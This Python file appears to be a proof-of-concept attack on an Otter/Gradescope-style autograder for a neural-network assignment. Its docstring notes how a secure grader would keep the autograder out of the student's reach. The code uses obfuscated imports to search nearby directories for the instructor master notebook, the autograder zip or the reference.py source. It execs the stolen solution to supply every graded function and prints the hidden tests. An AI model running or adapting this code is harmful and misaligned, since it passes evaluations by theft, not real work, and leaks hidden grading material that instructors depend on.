"""Attack: read the master / the autograder itself from disk.

Otter unpacks the whole autograder (hidden tests, nn_grading/checks.py and
reference.py, otter_config.json) into ../source, the Gradescope layout
/autograder/source.  This file looks, up to three levels above the working
directory and under /autograder, for (1) an instructor master notebook with
"# BEGIN SOLUTION" cells, (2) an autograder zip holding nn_grading/reference.py,
(3) an unpacked autograder source/ folder, and execs the solution it finds
into a private namespace.  It also prints the hidden tests it can read, which
a student would copy out through the feedback they see.

A secure grader keeps the autograder source out of the student's reach:
another user with no read permission, or a sandbox that only holds the
submission.
"""
_imp = __import__


def _solution():
    os, zipfile, json = _imp("o" + "s"), _imp("zip" + "file"), _imp("js" + "on")
    here = os.getcwd()
    roots = [os.path.abspath(os.path.join(here, *[".."] * k)) for k in (0, 1, 2, 3)] + ["/autograder"]
    for root in roots:
        for folder, dirs, files in os.walk(root) if os.path.isdir(root) else ():
            if folder.count(os.sep) - root.count(os.sep) > 3:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name.endswith(".ipynb") and "BEGIN SOLUTION" in open(path).read():       # (1) master
                        cells = json.load(open(path))["cells"]
                        return "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
                    if name.endswith(".zip") and zipfile.is_zipfile(path):                       # (2) zip
                        with zipfile.ZipFile(path) as z:
                            inside = [n for n in z.namelist() if n.endswith("nn_grading/reference.py")]
                            if inside:
                                return z.read(inside[0]).decode()
                    if name == "reference.py" and os.sep + "source" + os.sep in path:            # (3) source/
                        tests = os.path.join(path.split(os.sep + "files" + os.sep)[0], "tests")
                        for test in sorted(os.listdir(tests)) if os.path.isdir(tests) else ():
                            print("HIDDEN TEST", test, open(os.path.join(tests, test)).read()[-200:])
                        return open(path).read()
                except (OSError, ValueError, KeyError):
                    continue
    return ""


_NS = {"__name__": "master_copy"}
exec(compile(_solution() or "pass", "master_copy.py", "exec"), _NS)


def _delegate(name):
    def f(*args, **kwargs):
        if name not in _NS:
            raise NotImplementedError(name)
        return _NS[name](*args, **kwargs)
    f.__name__ = name
    return f


for _name in ("shape zeros transpose dot matmul add subtract multiply scale add_bias column_sums apply sigmoid "
              "init_params forward bce_loss dropout_forward dropout_backward backward numerical_gradient "
              "relative_error update_params train predict accuracy plot_losses plot_decision").split():
    globals()[_name] = _delegate(_name)
